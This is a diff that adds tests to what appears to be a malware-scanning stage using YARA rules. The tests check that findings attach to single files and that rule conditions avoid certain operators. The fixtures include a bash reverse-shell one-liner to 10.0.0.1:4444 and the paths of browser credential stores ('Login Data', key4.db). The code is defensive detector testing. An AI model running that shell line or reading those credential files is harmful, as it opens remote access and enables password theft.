@@ -3,6 +3,7 @@ import { Effect, Fiber } from "effect"
 import { TestClock } from "effect/testing"
 import { createServer as createHttpServer } from "node:http"
 import type { RequestListener } from "node:http"
+import { readFileSync } from "node:fs"
 import { createServer } from "node:net"
 import type { AddressInfo, Server } from "node:net"
 import { cvss3BaseScore, severityOf } from "../Osv.ts"
@@ -246,6 +247,30 @@ describe("S4 malware", () => {
       expect(result.detail).toContain("not checked")
     })
   )
+
+  it.effect("says it of the file that it is in, and not of what two files have between them", () =>
+    Effect.gen(function* () {
+      const shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+      const { findings } = yield* runStage(malwareStage, {
+        "a.txt": "p = 'User Data/Default/Login Data'; q = 'key4.db'",
+        "b.txt": "requests.post(u, files=f)",
+        "c.txt": shell,
+        "d.txt": "x".repeat(1024 * 1024 - 1)
+      })
+      expect(findings.map(({ file, rule }) => [file, rule])).toEqual([["c.txt", "yara-reverse-shell"]])
+    })
+  )
+
+  it("has no rule that asks what is absent or where something is: files are scanned together first", () => {
+    const source = readFileSync(new URL("../rules/malware.yar", import.meta.url), "utf8")
+    const conditions = source
+      .split(/\bcondition:/u)
+      .slice(1)
+      .map((rest) => rest.split("}")[0])
+    expect(conditions.length).toBeGreaterThan(5)
+    for (const condition of conditions)
+      expect(condition).not.toMatch(/\bnot\b|\bnone\b|\bat\b|\bin\b|filesize|u?int\d|[#@!<>=]/u)
+  })
 
   /** Speaks clamd's protocol: answers `FOUND` for a stream with the word `badword`. */
   const clamd = (answer: (stream: string) => string) =>
